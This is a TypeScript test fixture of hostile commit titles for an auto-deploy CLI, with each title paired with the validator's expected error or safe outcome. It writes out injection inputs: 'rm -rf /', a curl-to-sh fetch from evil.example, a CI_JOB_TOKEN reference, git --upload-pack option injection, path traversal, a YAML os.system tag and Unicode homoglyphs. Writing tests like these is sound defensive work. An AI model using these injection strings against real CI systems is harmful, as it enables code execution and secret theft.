/**
 * Commit titles an attacker or an accident could push to the example cluster
 * (examples/cluster), with what the CLI must do: exit 1 with the first error matching `error`, or
 * exit 0 with exactly the `instances` named (none for a noop). `marker` is a hostile fragment that
 * must not appear anywhere in a generated pipeline. Test data only.
 */
export type Expected =
  | { readonly exit: 1; readonly error: RegExp }
  | { readonly exit: 0; readonly kind: string; readonly instances: readonly string[] };

export interface HostileTitle {
  readonly category: string;
  readonly name: string;
  readonly title: string;
  readonly expected: Expected;
  readonly marker?: string;
}

const U = "[AutoDeploy][Update] ";
const B = "[AutoDeploy][Batch][Upgrade] ";
const EDX = "https://github.com/openedx/edx-platform.git";

const fails = (error: RegExp): Expected => ({ exit: 1, error });
const runs = (kind: string, instances: readonly string[] = []): Expected => ({
  exit: 0,
  kind,
  instances,
});
const BAD_NAME = /instance name .* (contains|is \d+ characters long|must start with a letter)/;

const list = (n: number, entry: (i: number) => string): string =>
  Array.from({ length: n }, (_, i) => entry(i)).join(",");

export const HOSTILE_TITLES: readonly HostileTitle[] = [
  // Shell metacharacters, command substitution, backticks, quotes.
  {
    category: "shell",
    name: "semicolon and rm",
    title: `${U}demo;rm -rf /`,
    expected: fails(BAD_NAME),
  },
  {
    category: "shell",
    name: "$() as a name",
    title: `${U}$(curl -s https://evil.example/x|sh)`,
    expected: fails(BAD_NAME),
  },
  {
    category: "shell",
    name: "$() as a deployment id",
    title: `${U}demo|$(id)`,
    expected: fails(/deployment id '\$\(id\)' contains '\$'/),
  },
  { category: "shell", name: "backticks", title: `${U}\`reboot\``, expected: fails(BAD_NAME) },
  { category: "shell", name: "single quotes", title: `${U}'demo'`, expected: fails(BAD_NAME) },
  { category: "shell", name: "double quotes", title: `${U}"demo"`, expected: fails(BAD_NAME) },
  {
    category: "shell",
    name: "&& after a real name",
    title: `${U}demo && curl evil.example`,
    expected: fails(/unexpected text/),
  },
  { category: "shell", name: "${VAR}", title: `${U}\${CI_JOB_TOKEN}`, expected: fails(BAD_NAME) },
  {
    category: "shell",
    name: "real name, then $()",
    title: `${U}demo,$(id)`,
    expected: fails(BAD_NAME),
  },
  {
    category: "shell",
    name: "$() in a batch version",
    title: `${B}*|$(id)`,
    expected: fails(/version/),
  },
  {
    category: "shell",
    name: "option injection in a repository",
    title: `${B}--upload-pack=touch /tmp/x|v`,
    expected: fails(/repository/),
  },
  {
    category: "shell",
    name: "; after a commit hash",
    title: "[AutoDeploy][Batch][UpgradeTo] deadbeef;id",
    expected: fails(/commit/),
  },
  {
    category: "shell",
    name: "everything in infrastructure text",
    title: "[AutoDeploy][Infrastructure] $(curl evil|sh) `id` 'q' \"d\" ${CI_JOB_TOKEN} ; |",
    expected: runs("infrastructure"),
    marker: "$(curl evil|sh)",
  },

  // Newlines and carriage returns: only the title line counts.
  {
    category: "newline",
    name: "directive on the second line",
    title: `${U}demo\n[AutoDeploy][Delete] hooli-edu`,
    expected: runs("update", ["demo"]),
  },
  {
    category: "newline",
    name: "directive after a carriage return",
    title: `${U}demo\r[AutoDeploy][Delete] hooli-edu`,
    expected: runs("update", ["demo"]),
  },
  {
    category: "newline",
    name: "harmless title, directive after \\r",
    title: "Fix a typo\r[AutoDeploy][Delete] hooli-edu",
    expected: runs("none"),
  },
  {
    category: "newline",
    name: "harmless title, directive after \\n",
    title: "Fix a typo\n[AutoDeploy][Delete] hooli-edu",
    expected: runs("none"),
  },
  {
    category: "newline",
    name: "CRLF line ends",
    title: `${U}demo\r\n\r\n[AutoDeploy][Delete] hooli-edu\r\n`,
    expected: runs("update", ["demo"]),
  },
  {
    category: "newline",
    name: "merge commit: second directive in the body",
    title: `Merge branch 'x' into 'main'\n\n${U}demo\n[AutoDeploy][Delete] hooli-edu`,
    expected: runs("update", ["demo"]),
  },

  // YAML syntax.
  { category: "yaml", name: "': ' mapping", title: `${U}demo: {x: 1}`, expected: fails(BAD_NAME) },
  { category: "yaml", name: "'{' flow mapping", title: `${U}{demo: x}`, expected: fails(BAD_NAME) },
  { category: "yaml", name: "&anchor", title: `${U}&anchor demo`, expected: fails(BAD_NAME) },
  { category: "yaml", name: "*alias", title: `${U}*alias`, expected: fails(BAD_NAME) },
  {
    category: "yaml",
    name: "!!tag",
    title: `${U}!!python/object/apply:os.system demo`,
    expected: fails(BAD_NAME),
  },
  { category: "yaml", name: "document marker", title: `${U}---`, expected: fails(BAD_NAME) },
  {
    category: "yaml",
    name: "*alias as a batch version",
    title: `${B}*|*alias`,
    expected: fails(/batch target '\*\|\*alias' matches no instance/),
  },
  {
    category: "yaml",
    name: "# comment after a target",
    title: `${B}${EDX}|open-release/quince.3 # comment`,
    expected: fails(/unexpected text/),
  },
  {
    category: "yaml",
    name: "YAML in infrastructure text",
    title: "[AutoDeploy][Infrastructure] key: value {a: &x 1} *x !!binary",
    expected: runs("infrastructure"),
    marker: "!!binary",
  },

  // Path traversal.
  { category: "traversal", name: "../x", title: `${U}../x`, expected: fails(BAD_NAME) },
  { category: "traversal", name: "../demo", title: `${U}../demo`, expected: fails(BAD_NAME) },
  {
    category: "traversal",
    name: "archive ..",
    title: "[AutoDeploy][Archive] ..",
    expected: fails(BAD_NAME),
  },
  {
    category: "traversal",
    name: "delete ../../etc",
    title: "[AutoDeploy][Delete] ../../etc",
    expected: fails(BAD_NAME),
  },
  {
    category: "traversal",
    name: "folder path as a name",
    title: `${U}instances/demo`,
    expected: fails(BAD_NAME),
  },
  {
    category: "traversal",
    name: "../x as a repository",
    title: `${B}../x|v`,
    expected: fails(/repository/),
  },
  {
    category: "traversal",
    name: "../ in a version",
    title: `${B}*|../../x`,
    expected: fails(/version/),
  },

  // Unicode look-alikes and invisible characters.
  {
    category: "unicode",
    name: "Cyrillic е in demo",
    title: `${U}d\u0435mo`,
    expected: fails(/contains U\+0435/),
  },
  {
    category: "unicode",
    name: "Cyrillic а in acme-staging",
    title: `[AutoDeploy][Archive] \u0430cme-staging`,
    expected: fails(/contains U\+0430/),
  },
  {
    category: "unicode",
    name: "fullwidth d in demo",
    title: `${U}\uff44emo`,
    expected: fails(/contains U\+FF44/),
  },
  {
    category: "unicode",
    name: "zero-width space after demo",
    title: `${U}demo\u200b`,
    expected: fails(/contains U\+200B/),
  },
  {
    category: "unicode",
    name: "zero-width joiner inside demo",
    title: `${U}de\u200dmo`,
    expected: fails(/contains U\+200D/),
  },
  {
    category: "unicode",
    name: "byte-order mark before demo",
    title: `${U}\ufeffdemo`,
    expected: fails(/contains U\+FEFF/),
  },
  {
    category: "unicode",
    name: "right-to-left override",
    title: `${U}\u202eomed`,
    expected: fails(/contains U\+202E/),
  },
  {
    category: "unicode",
    name: "NUL inside a name",
    title: `${U}demo\u0000x`,
    expected: fails(BAD_NAME),
  },
  {
    category: "unicode",
    name: "Cyrillic а in the Update tag",
    title: "[AutoDeploy][Upd\u0430te] demo",
    expected: fails(/type/),
  },
  {
    category: "unicode",
    name: "ł in the AutoDeploy tag",
    title: "[AutoDep\u0142oy][Delete] demo",
    expected: runs("none"),
  },
  {
    category: "unicode",
    name: "Kelvin sign in the Upgrade tag",
    title: `[AutoDeploy][Batch][Upgrade\u212a] *|*`,
    expected: fails(/type/),
  },
  {
    category: "unicode",
    name: "terminal escape in infrastructure text",
    title: "[AutoDeploy][Infrastructure] x\u001b]0;pwned\u0007",
    expected: fails(/the description contains a control character \(U\+001B\)/),
  },

  // Size.
  {
    category: "size",
    name: "100 KB instance name",
    title: `${U}${"a".repeat(100_000)}`,
    expected: fails(/is 100000 characters long/),
  },
  {
    category: "size",
    name: "100 KB infrastructure text",
    title: `[AutoDeploy][Infrastructure] ${"$(x)".repeat(25_000)}`,
    expected: runs("infrastructure"),
    marker: "$(x)",
  },
  {
    category: "size",
    name: "100 KB title that is no directive",
    title: `Fix ${"[AutoDeploy]".repeat(8_500)}`,
    expected: runs("none"),
  },
  {
    category: "size",
    name: "10,000 unknown names",
    title: `${U}${list(10_000, (i) => `x${i}`)}`,
    expected: fails(/unknown instance 'x0'/),
  },
  {
    category: "size",
    name: "10,000 names: demo repeated",
    title: `${U}${list(10_000, () => "demo")}`,
    expected: fails(/instance 'demo' is listed twice/),
  },
  {
    category: "size",
    name: "10,000 batch targets, one real",
    title: `${B}${EDX}|open-release/quince.3,${list(9_999, (i) => `*|v${i}`)}`,
    // Past the cap on targets per title (MAX_TARGETS): one error, no matching at all.
    expected: fails(/a batch title names at most 1,000 targets, this one 10,000/),
  },
  {
    category: "size",
    name: "10,000 archive entries, one real",
    title: `[AutoDeploy][Archive] demo,${list(9_999, (i) => `gone-${i}`)}`,
    expected: fails(/unknown instance 'gone-0'/),
  },

  // Empty and white-space-only.
  { category: "empty", name: "empty", title: "", expected: runs("none") },
  { category: "empty", name: "spaces and tabs", title: " \t  \t ", expected: runs("none") },
  { category: "empty", name: "blank lines", title: "\n\n \r\n\t\n", expected: runs("none") },
  { category: "empty", name: "the tag alone", title: "[AutoDeploy]", expected: fails(/type/) },
  {
    category: "empty",
    name: "empty list",
    title: "[AutoDeploy][Update]",
    expected: fails(/empty|no instance|list/),
  },
  {
    category: "empty",
    name: "blank list",
    title: `${U}   \t`,
    expected: fails(/empty|no instance|list/),
  },
  { category: "empty", name: "only commas", title: `${U},,,`, expected: fails(/empty/) },
];
